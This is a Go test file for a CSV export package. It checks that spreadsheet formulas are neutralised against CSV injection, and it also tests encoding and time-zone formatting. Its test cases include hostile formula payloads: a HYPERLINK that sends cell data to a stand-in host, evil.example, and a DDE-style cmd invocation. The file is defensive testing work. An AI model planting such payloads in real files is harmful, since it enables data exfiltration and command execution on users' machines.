package csvx_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"watchwin/internal/csvx"
)

// Cells a spreadsheet would evaluate come out as text (OWASP "CSV
// Injection"); everything else is written unchanged, and Go's encoding/csv
// reads back exactly what was meant, quotes, commas and line breaks included.
func TestInjectionIsNeutralised(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`},
		{"+1-555-0100", "'+1-555-0100"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		// Written as "'\r=1+1"; encoding/csv drops a carriage return inside a
		// quoted field when reading, and the apostrophe still leads.
		{"\r=1+1", "'=1+1"},
		{"Sam O'Neil, \"Sammy\"", "Sam O'Neil, \"Sammy\""},
		{"José Müller", "José Müller"},
		{"line one\nline two", "line one\nline two"},
		{"48.00", "48.00"},
		{"", ""},
		{"a=b", "a=b"},
	}
	var buf bytes.Buffer
	w, err := csvx.New(&buf, time.UTC)
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		if err := w.Row(c.in, "end"); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasPrefix(out, csvx.BOM) {
		t.Fatalf("export does not open with the UTF-8 byte-order mark: %q", out[:10])
	}
	if strings.Contains(strings.ReplaceAll(out, "\r\n", ""), "\r\r") || !strings.Contains(out, "\r\n") {
		t.Errorf("records are not CRLF-terminated (RFC 4180): %q", out)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, csvx.BOM)))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != len(cases) {
		t.Fatalf("%d records, want %d", len(records), len(cases))
	}
	for i, c := range cases {
		if got := records[i]; got[0] != c.want || got[1] != "end" {
			t.Errorf("%q: wrote %q, want %q", c.in, got, c.want)
		}
	}
}

func TestTime(t *testing.T) {
	chicago, err := time.LoadLocation("America/Chicago")
	if err != nil {
		t.Fatal(err)
	}
	w, err := csvx.New(&bytes.Buffer{}, chicago)
	if err != nil {
		t.Fatal(err)
	}
	// 05:30 UTC on December 1 is 11:30 PM on November 30 in Chicago.
	if got := w.Time(time.Date(2026, 12, 1, 5, 30, 0, 0, time.UTC)); got != "2026-11-30 23:30:00" {
		t.Errorf("Time = %q", got)
	}
	if got := w.Zone(); got != " (America/Chicago)" {
		t.Errorf("Zone = %q", got)
	}
}
